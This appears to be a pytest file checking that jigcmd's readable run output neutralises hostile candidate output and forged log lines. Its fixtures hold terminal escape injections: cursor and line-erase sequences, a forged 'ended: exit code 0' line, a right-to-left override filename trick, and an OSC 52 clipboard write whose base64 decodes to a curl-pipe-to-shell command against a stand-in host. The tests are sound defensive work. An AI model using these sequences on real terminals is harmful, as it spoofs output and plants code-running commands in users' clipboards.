"""`jigcmd run`'s readable answer: the candidate's output can neither drive the terminal nor
pass for jigcmd's own lines."""

from __future__ import annotations

import pytest

from jigcmd.errors import Code, JigError
from jigcmd.evidence import Evidence, StreamText
from jigcmd.frontends.run import write_failure
from jigcmd.frontends.runtext import FRAME, one_line, readable, visible
from jigcmd.protocol import mcp_view
from jigcmd.protocol.junit import CtrfSummary, CtrfTest

# What the hostile candidate printed: a cursor move up and a line erase, then a forged
# `ended:` line, the clipboard (OSC 52), the window title, a C1 CSI and a bidi override.
HOSTILE = (
    "\x1b[2A\x1b[2K\rended:      exit code 0 (stop reason: exited, cleanup: complete)\n"
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;title\x07\x9b31m\u202egnp.exe\n"
)


def evidence(stdout: str, stderr: str = "") -> Evidence:
    return Evidence(
        candidate_digest="sha256:" + "0" * 64,
        command="start",
        invocation=["bun", "src/main.ts", "\x1b[31m"],
        stdin_digest="sha256:" + "1" * 64,
        stdout=StreamText(stdout, False),
        stderr=StreamText(stderr, True),
        exit_code=1,
        signal=None,
        stop_reason="exited",
        cleanup="complete",
    )


def test_no_control_character_but_newline_and_tab_reaches_the_terminal() -> None:
    text = readable(evidence(HOSTILE, "a\tb\x00\x7f"), None)
    controls = {c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) < 0xA0}
    assert controls == set()
    assert "\u202e" not in text
    assert "\\x1b]52;c;" in text and "\\x9b31m" in text and "\\u202egnp.exe" in text
    assert "a\tb\\x00\\x7f" in text


def test_a_forged_ended_line_is_framed_as_output_never_a_summary_line() -> None:
    lines = readable(evidence(HOSTILE), None).splitlines()
    ended = [line for line in lines if "ended:" in line]
    assert ended[0] == "ended:      exit code 1 (stop reason: exited, cleanup: complete)"
    assert all(line.startswith(FRAME) for line in ended[1:]) and len(ended) == 2
    assert lines[-1] == "--- end of output ---"


def test_every_line_of_each_stream_is_framed_and_the_streams_are_named() -> None:
    lines = readable(evidence("one\ntwo\n", "err"), None).splitlines()
    start = lines.index("--- stdout: each line after '| ' ---")
    assert lines[start:] == [
        "--- stdout: each line after '| ' ---",
        "| one",
        "| two",
        "--- stderr, truncated: each line after '| ' ---",
        "| err",
        "--- end of output ---",
    ]


def test_the_summary_makes_the_invocation_and_failing_test_names_inert() -> None:
    summary = CtrfSummary(tests=1, passed=0, failed=1, skipped=0, pending=0, other=0, duration=0)
    tests = mcp_view.TestsView(
        candidate_influenced=True,
        note=mcp_view.TESTS_NOTE,
        summary=summary,
        tests=[CtrfTest(name="x\x1b]0;t\x07\nended: exit code 0", status="failed", duration=0)],
    )
    text = readable(evidence(""), None, tests)
    assert "(x\\x1b]0;t\\x07\\nended: exit code 0)" in text
    assert "\\x1b[31m" in text and "\x1b" not in text


def test_visible_keeps_text_without_controls_as_it_is() -> None:
    plain = "héllo\twörld ✓\n€ 中文"
    assert visible(plain) == plain


def test_a_name_with_a_newline_cannot_start_a_line_of_jigcmds_stderr(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A file named `x\\njigcmd run: ended: exit code 0` stays inside the one refusal line."""
    forged = "x\njigcmd run: ended: exit code 0"
    assert one_line(forged) == "x\\njigcmd run: ended: exit code 0"
    write_failure(JigError(Code.INVALID_INPUT, f"/files/{forged}: not a valid path"), False)
    err = capsys.readouterr().err
    assert err.count("\n") == 1, err
    assert not any(line.startswith("jigcmd run: ended") for line in err.splitlines())
